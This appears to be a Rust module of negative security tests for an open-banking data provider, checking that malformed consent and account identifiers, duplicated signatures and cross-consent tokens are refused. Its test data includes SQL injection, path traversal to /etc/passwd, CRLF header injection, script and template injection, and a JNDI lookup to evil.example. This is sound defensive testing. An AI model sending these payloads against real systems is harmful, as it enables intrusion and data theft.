//! Identifiers that are none: endless, or meant for a shell, a database, a file system or a header.

use http::Method;

use super::{
    Bench, Check,
    bench::fresh_id,
    data_calls::{refused, refused_call},
    finding::{Outcome, Seen},
    refusal::{NOT_THEIRS, REQUEST, REQUEST_OR_NOT_FOUND, Refusal, SIGNATURE, excerpt},
};
use crate::{
    forge::Signing,
    scenario::{AuthorizeRequest, DataCall, DataTweak},
};

const IDS: &str = "v1.2.2, HTTP Headers and Parameters; OWASP ASVS 2.2.1";

/// Of none of these characters does an identifier consist.
const HOSTILE: [&str; 9] = [
    "' OR '1'='1' --",
    "1; DROP TABLE consents",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "a\0b",
    "a\r\nx-injected: 1",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "\u{202e}\u{430}\u{ff41}",
];

pub(super) fn checks() -> Vec<Check> {
    vec![
        attack!(
            "data-consent-malformed",
            "data call whose consent_id is empty, endless, SQL, a path or control characters",
            IDS,
            REQUEST,
            |bench, must| data_consent(bench, must)
        ),
        attack!(
            "data-account-traversal",
            "data call whose account id climbs to another resource",
            "OWASP ASVS 5.3.2",
            REQUEST_OR_NOT_FOUND,
            |bench, must| {
                accounts(
                    bench,
                    must,
                    vec![
                        "..%2f..%2fhealth".to_owned(),
                        "..%2F..%2F..%2Fetc%2Fpasswd%00".to_owned(),
                        "..%5c..%5chealth".to_owned(),
                        "%252e%252e%252fhealth".to_owned(),
                        "....%2f%2fhealth".to_owned(),
                        "..;".to_owned(),
                        "a%2fbalances%3f".to_owned(),
                    ],
                )
            }
        ),
        attack!(
            "data-account-malformed",
            "data call whose account id is SQL, a script, control characters or endless",
            IDS,
            REQUEST_OR_NOT_FOUND,
            |bench, must| {
                let mut ids: Vec<_> = HOSTILE.map(percent_encoded).into();
                ids.push("a".repeat(8_000));
                accounts(bench, must, ids)
            }
        ),
        attack!(
            "userinfo-consent-malformed",
            "userinfo whose consent_id is empty, endless, SQL, a path or control characters",
            IDS,
            REQUEST,
            |bench, must| userinfo(bench, must)
        ),
        attack!(
            "authorize-consent-malformed",
            "link whose consent_id is empty, endless, SQL, a path or control characters",
            IDS,
            REQUEST,
            |bench, must| authorize(bench, must)
        ),
        attack!(
            "data-other-consents-token",
            "data call with a token about one consent for the data of another customer's",
            "v1.2.2, Consented Accounts; Consent Status",
            NOT_THEIRS,
            |bench, must| other_consents_token(bench, must)
        ),
        attack!(
            "data-hop-of-other-consent",
            "data call with PayNet's signature of another consent's hop",
            "v1.2.2, Message Signing",
            SIGNATURE,
            |bench, must| other_hop(bench, must)
        ),
        attack!(
            "data-signature-twice",
            "data call with its signature header twice",
            "v1.2.2, Message Signing; RFC 9110 §5.3",
            REQUEST,
            |bench, must| refused(bench, [DataTweak::SignatureTwice], must)
        ),
        attack!(
            "data-interaction-id-injection",
            "data call whose interaction id is markup or SQL; it is not reflected",
            "v1.2.2, HTTP Headers; FAPI 2.0 §5.2",
            "400 or data, and an interaction id of the provider's own",
            |bench| interaction_id(bench)
        ),
    ]
}

fn malformed() -> Vec<String> {
    let endless = [37, 8_000].map(|length| "c".repeat(length));
    let hostile = HOSTILE.map(str::to_owned);
    [String::new()]
        .into_iter()
        .chain(endless)
        .chain(hostile)
        .collect()
}

/// As one segment of a path.
fn percent_encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |encoded, byte| {
        format!("{encoded}%{byte:02x}")
    })
}

async fn data_consent(bench: &Bench<'_>, must: Refusal) -> Outcome<Seen> {
    let mut seen = Seen::default();
    for id in malformed() {
        let case = excerpt(&id);
        let refused = refused(bench, [DataTweak::ConsentParameter(Some(id))], must).await;
        seen.add(refused.map_err(|finding| finding.about(&case))?);
    }
    Ok(seen)
}

async fn accounts(bench: &Bench<'_>, must: Refusal, ids: Vec<String>) -> Outcome<Seen> {
    let shared = bench.shared().await?;
    let mut seen = Seen::default();
    for id in ids {
        let case = excerpt(&id);
        let call = DataCall::balances(&shared.consent_id, id);
        let refused = refused_call(bench, call, must).await;
        seen.add(refused.map_err(|finding| finding.about(&case))?);
    }
    Ok(seen)
}

async fn userinfo(bench: &Bench<'_>, must: Refusal) -> Outcome<Seen> {
    let mut seen = Seen::default();
    for id in malformed() {
        let signing = Signing::by("paynet-signing").detached();
        let signature = bench.simulator.sign(&signing, id.as_bytes())?;
        let mut url = url::Url::parse(&format!("{}/v1/oauth/userinfo", bench.webhooks_url))?;
        url.query_pairs_mut().append_pair("consent_id", &id);
        let interaction = fresh_id();
        let request = bench
            .simulator
            .request(Method::GET, url)
            .certificate("paynet-client")
            .header("x-fapi-interaction-id", &interaction)
            .header("x-fapi-signature", signature);
        let refused = must.check(&request.send().await?, Some(&interaction));
        seen.add(refused.map_err(|finding| finding.about(&excerpt(&id)))?);
    }
    Ok(seen)
}

async fn authorize(bench: &Bench<'_>, must: Refusal) -> Outcome<Seen> {
    let mut seen = Seen::default();
    for id in malformed() {
        let case = excerpt(&id);
        let link = AuthorizeRequest::new(id).at(&bench.dp_id);
        let link = bench.simulator.forged_authorize_url(&link)?;
        let refused = super::authorize::leads_nowhere(bench, &link, must).await;
        seen.add(refused.map_err(|finding| finding.about(&case))?);
    }
    Ok(seen)
}

/// The consumer has both consents; each opens its own customer's data only.
async fn other_consents_token(bench: &Bench<'_>, must: Refusal) -> Outcome<Seen> {
    bench.other_customer()?;
    let narrow = bench.narrow().await?;
    let parameter = DataTweak::ConsentParameter(Some(narrow.consent_id.clone()));
    refused(bench, [parameter, DataTweak::WithoutHopSignature], must).await
}

async fn other_hop(bench: &Bench<'_>, must: Refusal) -> Outcome<Seen> {
    let other = bench.awaiting().await?.consent_id;
    let signing = Signing::by("paynet-signing").detached();
    let signature = bench.simulator.sign(&signing, other.as_bytes())?;
    let hop = DataTweak::Header("x-fapi-signature".to_owned(), signature);
    refused(bench, [DataTweak::WithoutHopSignature, hop], must).await
}

async fn interaction_id(bench: &Bench<'_>) -> Outcome<Seen> {
    let mut seen = Seen::default();
    for id in ["<script>alert(1)</script>", "' OR '1'='1' --", "{{7*7}}"] {
        let tweak = DataTweak::InteractionId(Some(id.to_owned()));
        let call = super::data_calls::balances(bench).await?.with(tweak);
        let answer = bench.simulator.data_call(call).await?.answer;
        ensure!(
            matches!(answer.status, 200 | 400),
            "{} {}",
            answer.status,
            excerpt(&answer.text())
        );
        super::refusal::interaction_id(&answer, None)?;
        seen.add(Seen::new(answer.status.to_string()));
    }
    Ok(seen)
}
